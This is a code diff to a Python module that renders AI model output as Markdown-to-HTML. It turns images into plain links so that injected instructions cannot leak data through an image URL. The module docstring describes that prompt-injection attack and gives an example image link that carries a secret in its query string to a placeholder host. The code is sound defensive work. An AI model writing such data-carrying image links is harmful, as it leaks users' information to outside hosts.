@@ -1,7 +1,11 @@
 """Model Markdown to safe HTML.
 
 Model output is untrusted: raw HTML in it is shown as text (``html`` off), and
-markdown-it refuses ``javascript:``-style links. Code fences with a known language
+markdown-it refuses ``javascript:``-style links. An image is never fetched: a model
+told by a prompt injection to write ``![x](https://host/p.png?d=SECRET)`` would send
+out what it has seen the moment the text is drawn, with no click. So a Markdown image
+becomes a link showing its text and its URL; only a ``data:`` image of a type we show,
+whose bytes are checked, stays inline (it loads nothing). Code fences with a known language
 are coloured by Pygments (inline styles, so no stylesheet is needed) when it is
 installed. The parser is built on first use so importing this module stays cheap.
 """
@@ -71,12 +75,46 @@ def _parser() -> Any:
 
         md = MarkdownIt("commonmark", {"html": False, "highlight": _highlight})
         md.enable(["table", "strikethrough"])
+        md.add_render_rule("image", _render_image)
         _PARSER = md
     return _PARSER
 
 
+_DATA_IMAGE = re.compile(r"^data:(image/(?:png|jpeg|gif|webp));base64,([A-Za-z0-9+/=\s]+)$", re.I)
+
+
+def _inline_data_image(src: str) -> bool:
+    """A ``data:`` URL of an image type we show whose bytes are that type."""
+    match = _DATA_IMAGE.match(src)
+    if not match:
+        return False
+    from hermes_nb.safe_output import image_bundle
+
+    found = image_bundle(match.group(1).lower(), match.group(2))
+    return found is not None and match.group(1).lower() in found["data"]
+
+
+def _render_image(renderer: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
+    """An image as a link with its text and URL (never an ``<img>`` that loads itself)."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    alt = renderer.renderInlineAsText(token.children or [], options, env)
+    if _inline_data_image(src):
+        return f'<img src="{escape(src)}" alt="{escape(alt)}" style="max-width:100%"/>'
+    label = escape(f"image: {alt}" if alt else "image")
+    shown = escape(src if len(src) <= 200 else src[:199] + "…")
+    inside_link = sum(1 if t.type == "link_open" else -1 if t.type == "link_close" else 0 for t in tokens[:idx]) > 0
+    if inside_link or not src:
+        return f'<span class="hermes-nb-image-link">[{label}] <code>{shown}</code></span>'
+    return (
+        f'<span class="hermes-nb-image-link">[{label}] <a href="{escape(src)}" '
+        f'rel="noopener noreferrer nofollow" target="_blank">{shown}</a></span>'
+    )
+
+
 def render_markdown(text: str) -> str:
-    """Render Markdown to an HTML fragment; raw HTML in ``text`` is escaped."""
+    """Render Markdown to an HTML fragment; raw HTML in ``text`` is escaped, images
+    become links (see the module docstring)."""
     return str(_parser().render(text))
 
 
@@ -128,12 +166,18 @@ def _next_fence(stripped: str, fence: str) -> str:
 _CODE_SPAN = re.compile(r"(`+)(?:.|\n)*?(?<!`)\1(?!`)")
 
 
+def _neutral(piece: str) -> str:
+    return piece.replace("<", "&lt;").replace("![", "!\\[")
+
+
 def neutralize_html(text: str) -> str:
-    """Markdown with every ``<`` outside code written as ``&lt;``.
+    """Markdown with every ``<`` outside code written as ``&lt;`` and every image
+    (``![``) written as text.
 
     For Markdown we hand to someone else's renderer (a saved ``text/markdown``
-    output, an export) that may let raw HTML through: it reads the same, but a tag
-    in model output stays text. Code spans and fenced blocks are left alone.
+    output, an export) that may let raw HTML through or fetch images: it reads the
+    same, but a tag in model output stays text and an image is not loaded (its text
+    and URL show). Code spans and fenced blocks are left alone.
     """
     out: list[str] = []
     fence = ""
@@ -143,14 +187,14 @@ def neutralize_html(text: str) -> str:
             fence = _next_fence(stripped, fence)
             out.append(line)
             continue
-        if fence or "<" not in line:
+        if fence or ("<" not in line and "![" not in line):
             out.append(line)
             continue
         pieces, last = [], 0
         for match in _CODE_SPAN.finditer(line):
-            pieces.append(line[last : match.start()].replace("<", "&lt;"))
+            pieces.append(_neutral(line[last : match.start()]))
             pieces.append(match.group(0))
             last = match.end()
-        pieces.append(line[last:].replace("<", "&lt;"))
+        pieces.append(_neutral(line[last:]))
         out.append("".join(pieces))
     return "".join(out)
